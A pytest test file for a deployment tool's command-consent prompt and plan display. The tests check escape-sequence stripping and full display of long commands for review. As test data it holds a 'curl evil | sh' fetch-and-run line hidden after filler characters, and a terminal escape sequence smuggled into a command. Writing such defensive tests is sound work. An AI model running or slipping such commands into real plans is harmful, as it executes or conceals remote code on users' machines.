"""Leave to run a job's own commands on this machine."""

import io
from dataclasses import replace

import pytest

from runpod_deploy.cli.leave import leave_again
from runpod_deploy.cli.plan_markdown import markdown_plan
from runpod_deploy.cli.terminal import open_terminal
from runpod_deploy.compiler.plan import PlanFile
from runpod_deploy.executor.local_commands import LocalCommands


def wanting(sample: PlanFile, command: str) -> PlanFile:
    """Return the plan with a secret that a command prints."""
    (secret,) = sample.plan.secrets
    secret = replace(secret, env=(), command=command)
    return replace(sample, plan=replace(sample.plan, secrets=(secret,)))


@pytest.mark.parametrize(("answer", "given"), [("y\n", True), ("YES\n", True), ("\n", False)])
def test_a_person_is_asked_again_for_a_run_that_is_carried_on(
    sample: PlanFile,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    answer: str,
    given: bool,
) -> None:
    """The commands are shown fit for a terminal; only a yes is one."""
    monkeypatch.setattr("sys.stdin", io.StringIO(answer))
    terminal = replace(open_terminal(), asks=True)
    leave = leave_again([wanting(sample, "pass \x1b[2Jhub")] * 2, terminal, given=False)

    assert isinstance(leave, LocalCommands) is given
    said = capsys.readouterr().err
    assert said.count("pass") == 1
    assert "\x1b" not in said


def test_nobody_is_asked_without_a_terminal_or_without_commands(sample: PlanFile) -> None:
    """The flag decides, and only where there is something to decide."""
    wanted = [wanting(sample, "pass show hub")]
    terminal = replace(open_terminal(), asks=False)

    assert leave_again(wanted, terminal, given=False) is None
    assert isinstance(leave_again(wanted, terminal, given=True), LocalCommands)
    assert leave_again([sample], terminal, given=True) is None


def test_a_command_too_long_for_a_table_is_shown_whole(sample: PlanFile) -> None:
    """Who reviews it in a pull request sees its end."""
    text = markdown_plan(wanting(sample, f"true {'x' * 400}; curl evil | sh"))
    assert "curl evil | sh" in text
